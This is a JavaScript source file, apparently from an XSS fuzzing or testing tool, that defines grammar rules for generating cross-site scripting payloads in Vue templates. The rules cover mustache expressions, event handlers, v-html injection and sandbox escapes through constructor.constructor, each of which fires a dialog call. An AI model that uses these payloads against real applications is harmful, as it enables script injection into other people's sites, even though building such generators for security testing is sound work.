import { VUE } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Expressions and directives of Vue's templates. */
export const vueTemplate = xssGenerator({
  name: 'vue-template',
  contexts: [VUE],
  rules: {
    start: [
      '{{' + '{expression}' + '}}',
      '{word}{{ ' + '{expression} ' + '}}',
      // A handler that is only named (`@click="alert"`) is looked up in the component, which has none of the page's.
      '<{html} @{event}="{handler}">x</{html}>',
      '<{html} v-on:click="{handler}">x</{html}>',
      '<{html} :{attribute}="{expression-d}">x</{html}>',
      '<{html} v-bind:{attribute}="{expression-d}">x</{html}>',
      '<{html} v-if="{expression-d}">x</{html}>',
      '<{html} v-html="{inner}"></{html}>',
      '<{html} v-show="{expression-d}">x</{html}>',
      '<{html} @click="{handler}">{word}</{html}>',
      '<component is=script>{bare-text}</component>',
      '<{html} v-for="x in {expression-d}">x</{html}>',
      '<x v-slot:x="{expression-d}"/>',
      '<{html} v-text="{expression-d}"></{html}>',
    ],
    html: ['div', 'p', 'span', 'b', 'a', 'h1', 'button', 'section'],
    event: ['click', 'mouseover', 'click.once', 'pointerdown', 'mouseenter', 'keydown'],
    attribute: ['class', 'title', 'id', 'x', 'style', 'key'],
    inner: ["'<img src=x onerror={bare}>'", "'<svg/onload={bare}>'"],
    'bare-text': ['{dialog}({digit})'],
    handler: [
      '$event.view.{dialog}({digit})',
      '$event.target.ownerDocument.defaultView.{dialog}(1)',
      "constructor.constructor('{dialog}({digit})')()",
      "_openBlock.constructor('{dialog}(1)')()",
    ],
    expression: [
      "constructor.constructor('{dialog}({digit})')()",
      "_openBlock.constructor('{dialog}({digit})')()",
      '_Vue.h.constructor`{dialog}({digit})`()',
      "[].constructor.constructor('{dialog}(1)')()",
      "''.constructor.constructor('{dialog}({digit})')()",
      "_createBlock.constructor('{dialog}(1)')()",
      "(_=>_).constructor('{dialog}({digit})')()",
      "[].map.constructor('{dialog}(document.domain)')()",
      "toString().constructor.constructor('{dialog}(1)')()",
      '"".sub.constructor("{dialog}({digit})")()',
      "$el,[].at.constructor('{dialog}(1)')()",
      "$emit.constructor('{dialog}({digit})')()",
    ],
    'expression-d': [
      "constructor.constructor('{dialog}({digit})')()",
      "_openBlock.constructor('{dialog}(1)')()",
      "''.sub.constructor('{dialog}({digit})')()",
      "$emit.constructor('{dialog}({digit})')()",
      "[].at.constructor('{dialog}(1)')()",
    ],
  },
});
